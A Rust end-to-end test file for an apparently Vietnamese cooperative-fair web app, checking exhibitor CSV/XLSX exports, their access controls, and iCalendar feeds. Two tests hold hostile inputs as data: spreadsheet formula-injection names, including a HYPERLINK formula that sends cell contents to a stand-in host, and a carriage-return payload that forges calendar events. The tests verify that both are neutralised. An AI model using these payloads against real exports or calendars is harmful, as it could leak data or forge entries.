//! Exhibitor lists (CSV, XLSX) for organizers and iCalendar files for
//! everyone, fetched over HTTP and parsed.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use chrono::{DateTime, Duration, Utc};
use coopbridge_e2e::{DbKind, TestApp, content_type};
use serde_json::json;

use crate::fairs::{apply_each, cooperatives_with_member, create_event, event_input, fair};

/// Splits RFC 4180 CSV into rows of cells (quoted cells may hold commas,
/// quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => cell.push(c),
        }
    }
    rows
}

/// Unfolds content lines and returns (name, value) pairs.
fn parse_ical(text: &str) -> Vec<(String, String)> {
    assert!(text.contains("\r\n"), "iCalendar lines end in CRLF");
    text.replace("\r\n ", "")
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(|l| {
            let (name, value) = l.split_once(':').unwrap_or_else(|| panic!("not a content line: {l:?}"));
            (
                name.to_owned(),
                value.replace("\\,", ",").replace("\\;", ";").replace("\\n", "\n"),
            )
        })
        .collect()
}

async fn get(app: &TestApp, path: &str, token: Option<&str>) -> (u16, String, Vec<u8>) {
    let response = app.get(path, token, &[]).await;
    let (status, content_type) = (response.status().as_u16(), content_type(&response));
    (status, content_type, response.bytes().await.unwrap().to_vec())
}

async fn organizers_export_exhibitors_and_everyone_gets_calendars(kind: DbKind) {
    let app = TestApp::spawn(kind).await;
    let f = fair(&app).await;
    let mut input = event_input("Hội chợ Nông sản, OCOP; Quảng Trị 2026", Some(6));
    input["publish"] = json!(true);
    let event = create_event(&app, &f.organizer, input.clone()).await;
    let event_id = event["id"].as_str().unwrap().to_owned();
    let draft = create_event(&app, &f.organizer, event_input("Phiên chợ nháp", Some(2))).await;
    let mut past = event_input("Hội chợ năm ngoái", Some(2));
    let now = Utc::now();
    past["startsAt"] = json!((now - Duration::days(3)).to_rfc3339());
    past["endsAt"] = json!((now - Duration::days(2)).to_rfc3339());
    past["registrationOpensAt"] = json!((now - Duration::days(9)).to_rfc3339());
    past["registrationClosesAt"] = json!((now - Duration::days(4)).to_rfc3339());
    past["publish"] = json!(true);
    let past = create_event(&app, &f.organizer, past).await;

    let names = ["HTX Rau, củ \"sạch\" Gio Linh", "HTX Mật ong Tuyên Hóa"];
    let (coops, member) = cooperatives_with_member(&app, &f, &names, "xuat@example.vn").await;
    let applicants: Vec<_> = coops.iter().cloned().zip([2, 1]).collect();
    apply_each(&app, &member, &event_id, &applicants, "CONFIRMED").await;
    let body = app
        .graphql(
            Some(&f.organizer),
            "query($id: ID!) { event(id: $id) { exportUrls { exhibitorsCsv exhibitorsXlsx } } }",
            json!({ "id": event_id }),
        )
        .await;
    let urls = &body["data"]["event"]["exportUrls"];
    let csv_url = urls["exhibitorsCsv"]
        .as_str()
        .unwrap_or_else(|| panic!("{body}"))
        .to_owned();
    let xlsx_url = urls["exhibitorsXlsx"].as_str().unwrap().to_owned();

    let (code, content_type, bytes) = get(&app, &csv_url, Some(&f.organizer)).await;
    assert_eq!(code, 200);
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let text = String::from_utf8(bytes).unwrap();
    let rows = parse_csv(text.strip_prefix('\u{feff}').expect("a BOM for Excel"));
    assert_eq!(rows.len(), 3, "{text}");
    assert_eq!(rows[0][..2], ["STT".to_owned(), "Hợp tác xã".to_owned()]);
    assert_eq!(rows[1][1], names[0]);
    assert_eq!((rows[1][5].as_str(), rows[2][5].as_str()), ("2", "1"));
    assert_eq!(rows[2][3], "Quảng Trị");
    assert_eq!(get(&app, &csv_url, None).await.0, 401);
    assert_eq!(get(&app, &csv_url, Some(&member)).await.0, 403);
    assert_eq!(
        get(&app, "/events/999999/exhibitors.csv", Some(&f.organizer)).await.0,
        404
    );

    let (code, content_type, bytes) = get(&app, &xlsx_url, Some(&f.organizer)).await;
    assert_eq!(code, 200);
    assert!(content_type.contains("spreadsheetml"), "{content_type}");
    assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip");
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook");
    let sheet = workbook.worksheet_range("Exhibitors").expect("the Exhibitors sheet");
    assert_eq!(
        sheet.get_value((0, 0)),
        Some(&Data::String("Hội chợ Nông sản, OCOP; Quảng Trị 2026".into()))
    );
    assert_eq!(sheet.get_value((2, 1)), Some(&Data::String("Hợp tác xã".into())));
    assert_eq!(sheet.get_value((3, 1)), Some(&Data::String(names[0].into())));
    assert_eq!(sheet.get_value((4, 1)), Some(&Data::String(names[1].into())));
    assert_eq!(sheet.get_value((3, 5)), Some(&Data::Float(2.0)));

    let (code, content_type, bytes) = get(&app, &format!("/events/{event_id}/calendar.ics"), None).await;
    assert_eq!(code, 200);
    assert!(content_type.starts_with("text/calendar"), "{content_type}");
    let lines = parse_ical(&String::from_utf8(bytes).unwrap());
    let value = |name: &str| lines.iter().find(|(n, _)| n == name).map(|(_, v)| v.clone());
    assert_eq!(lines.first().unwrap(), &("BEGIN".to_owned(), "VCALENDAR".to_owned()));
    assert_eq!(lines.last().unwrap(), &("END".to_owned(), "VCALENDAR".to_owned()));
    assert_eq!(
        value("SUMMARY").as_deref(),
        Some("Hội chợ Nông sản, OCOP; Quảng Trị 2026")
    );
    let starts: DateTime<Utc> = DateTime::parse_from_rfc3339(input["startsAt"].as_str().unwrap())
        .unwrap()
        .into();
    assert_eq!(value("DTSTART"), Some(starts.format("%Y%m%dT%H%M%SZ").to_string()));
    assert!(value("LOCATION").unwrap().ends_with("Quảng Trị"));
    assert_eq!(value("UID"), Some(format!("event-{event_id}@coopbridge")));
    let draft_id = draft["id"].as_str().unwrap();
    assert_eq!(
        get(&app, &format!("/events/{draft_id}/calendar.ics"), None).await.0,
        404
    );

    let (code, _, bytes) = get(&app, "/events/calendar.ics", None).await;
    assert_eq!(code, 200);
    let feed = parse_ical(&String::from_utf8(bytes).unwrap());
    let uids: Vec<String> = feed
        .iter()
        .filter(|(n, _)| n == "UID")
        .map(|(_, v)| v.clone())
        .collect();
    assert_eq!(
        uids,
        [format!("event-{event_id}@coopbridge")],
        "only upcoming published events; not {past}"
    );
}

async fn exported_names_that_look_like_formulas_stay_text(kind: DbKind) {
    let app = TestApp::spawn(kind).await;
    let f = fair(&app).await;
    let mut input = event_input("Hội chợ OCOP Quảng Trị", Some(4));
    input["publish"] = json!(true);
    let event_id = create_event(&app, &f.organizer, input).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let names = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")",
        "＋SUM(1,2)",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    let (coops, member) = cooperatives_with_member(&app, &f, &names, "cong-thuc@example.vn").await;
    let one_booth_each: Vec<_> = coops.iter().map(|c| (c.clone(), 1)).collect();
    apply_each(&app, &member, &event_id, &one_booth_each, "CONFIRMED").await;

    let (code, _, bytes) = get(&app, &format!("/events/{event_id}/exhibitors.csv"), Some(&f.organizer)).await;
    assert_eq!(code, 200);
    let text = String::from_utf8(bytes).unwrap();
    let rows = parse_csv(text.strip_prefix('\u{feff}').unwrap());
    let cells: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
    let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    assert_eq!(cells, expected, "{text}");

    let (code, _, bytes) = get(&app, &format!("/events/{event_id}/exhibitors.xlsx"), Some(&f.organizer)).await;
    assert_eq!(code, 200);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook");
    let sheet = workbook.worksheet_range("Exhibitors").unwrap();
    let formulas = workbook.worksheet_formula("Exhibitors").unwrap();
    for (i, name) in names.iter().enumerate() {
        let at = (3 + i as u32, 1);
        assert_eq!(sheet.get_value(at), Some(&Data::String((*name).into())), "row {i}");
        assert!(
            formulas.get_value(at).is_none_or(String::is_empty),
            "row {i} holds a formula: {:?}",
            formulas.get_value(at)
        );
    }
}

async fn a_carriage_return_stored_in_a_description_cannot_forge_calendar_lines(kind: DbKind) {
    let app = TestApp::spawn(kind).await;
    let f = fair(&app).await;
    let mut input = event_input("Hội chợ nông sản", Some(4));
    input["publish"] = json!(true);
    let event_id = create_event(&app, &f.organizer, input).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    // Input validation now refuses a lone CR; rows written before may hold one.
    use sea_orm::{ConnectionTrait, Statement};
    let db = app.db.connect().await;
    db.execute_raw(Statement::from_sql_and_values(
        db.get_database_backend(),
        if db.get_database_backend() == sea_orm::DbBackend::Postgres {
            "UPDATE fair_event SET description = $1 WHERE id = $2"
        } else {
            "UPDATE fair_event SET description = ? WHERE id = ?"
        },
        [
            "Mô tả\rEND:VEVENT\rBEGIN:VEVENT\rUID:gia-mao\rSUMMARY:Giả mạo".into(),
            event_id.parse::<i32>().unwrap().into(),
        ],
    ))
    .await
    .unwrap();
    let (code, _, bytes) = get(&app, "/events/calendar.ics", None).await;
    assert_eq!(code, 200);
    let text = String::from_utf8(bytes).unwrap();
    for physical in text.strip_suffix("\r\n").unwrap().split("\r\n") {
        assert!(!physical.contains(['\r', '\n']), "a bare line break: {physical:?}");
        assert!(physical.len() <= 75, "longer than 75 octets: {physical:?}");
    }
    let lines = parse_ical(&text);
    let count = |name: &str| lines.iter().filter(|(n, _)| n == name).count();
    assert_eq!((count("BEGIN"), count("UID"), count("SUMMARY")), (2, 1, 1), "{text}");
}

coopbridge_e2e::on_both_databases!(
    organizers_export_exhibitors_and_everyone_gets_calendars,
    exported_names_that_look_like_formulas_stay_text,
    a_carriage_return_stored_in_a_description_cannot_forge_calendar_lines,
);
